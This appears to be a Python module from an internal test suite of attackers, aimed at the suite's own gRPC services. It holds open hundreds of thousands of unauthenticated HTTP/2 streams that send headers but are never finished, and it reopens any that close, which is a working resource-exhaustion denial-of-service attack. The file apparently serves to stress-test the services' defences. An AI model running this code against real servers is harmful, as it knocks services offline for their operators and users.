"""Calls that are begun and never sent: headers alone, as many at a time as there is room for, without a credential.

Half of them call a public method, half one that is not. What was seen to do harm: 40,000 of them.
"""

import asyncio
from collections import Counter

from support.attackers import Order
from support.attackers._http2 import Connection, request_headers
from support.attackers.gzip_bomb import PATHS

STREAMS = 400_000
PER_CONNECTION = 1_000
PUBLIC = "/grpc.health.v1.Health/Check"
PER_SECOND = 2_000
"""How fast they are opened, and opened again: faster, it would be a flood of calls and not of open ones."""
PAUSE = 0.02


async def attack(order: Order, over: asyncio.Event) -> Counter[str]:
    """See `support.attackers`."""
    return await hold(order, over, STREAMS, tuple((request_headers(path), request_headers(PUBLIC)) for path in PATHS), b"")


async def hold(
    order: Order, over: asyncio.Event, streams: int, headers: tuple[tuple[bytes, ...], ...], message: bytes
) -> Counter[str]:
    """Hold that many streams open on each service, in turns with each of its headers; those that end are opened again."""
    answers: Counter[str] = Counter()
    connections = max(round(streams * order.times / PER_CONNECTION), 1)

    async def keep_on(address: str, blocks: tuple[bytes, ...]) -> None:
        held: list[Connection] = []
        while not over.is_set():
            held = [connection for connection in held if not connection.over]
            if len(held) < connections and (opened := await Connection.open(address, answers)) is not None:
                held.append(opened)
            left = PER_SECOND * PAUSE
            for connection in held:
                while left > 0 and len(connection.open_streams) < PER_CONNECTION and not connection.over:
                    stream = connection.begin(blocks[round(left) % len(blocks)])
                    if message:
                        await connection.send(stream, message, end=False)
                    left -= 1
                await connection.flush()
            answers["HELD"] = max(answers["HELD"], sum(len(connection.open_streams) for connection in held))
            await asyncio.sleep(PAUSE)
        for connection in held:
            await connection.close()

    async with asyncio.TaskGroup() as group:
        for address, blocks in zip((order.authority, order.devices), headers, strict=True):
            if address:
                group.create_task(keep_on(address, blocks))
    return answers
